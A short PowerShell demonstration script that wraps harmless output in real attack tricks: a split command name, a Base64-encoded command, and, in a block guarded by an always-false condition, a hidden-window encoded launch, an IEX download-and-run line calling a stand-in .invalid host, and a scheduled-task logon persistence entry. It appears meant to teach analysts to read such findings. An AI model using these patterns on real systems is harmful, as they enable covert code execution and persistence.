<#
.SYNOPSIS
    Looks like an attack and is none: an example for readers of findings.
.DESCRIPTION
    The tricks below are those of real attacks (a command name in pieces, an encoded command, a hidden window, a download
    that is run at once), wrapped around a sentence. The address lies in .invalid, a domain that can never exist, and the part that
    would use it stands behind a condition that is never true.
#>

# A command name in pieces. Put together it is Write-Output.
$name = ('{1}{0}' -f 'Output', 'Write-')
& $name ('sselmrah'[7..0] -join '')

# A sentence in Base64. Decoded, it is one Write-Output.
$encoded = 'VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAFQAaABpAHMAIABpAHMAIABhACAAaABhAHIAbQBsAGUAcwBzACAAZQB4AGEAbQBwAGwAZQA6ACAAbgBvAHQAaABpAG4AZwAgAHcAYQBzACAAZABvAHcAbgBsAG8AYQBkAGUAZAAgAGEAbgBkACAAbgBvAHQAaABpAG4AZwAgAHcAYQBzACAAYwBoAGEAbgBnAGUAZAAuACcA'
$decoded = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($encoded))
Write-Verbose $decoded

if ($false) {
    powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand $encoded
    IEX (New-Object Net.WebClient).DownloadString('https://updates.example.invalid/harmless.ps1')
    schtasks /create /tn 'Example' /sc onlogon /tr 'powershell.exe -File C:\Example\harmless.ps1'
}
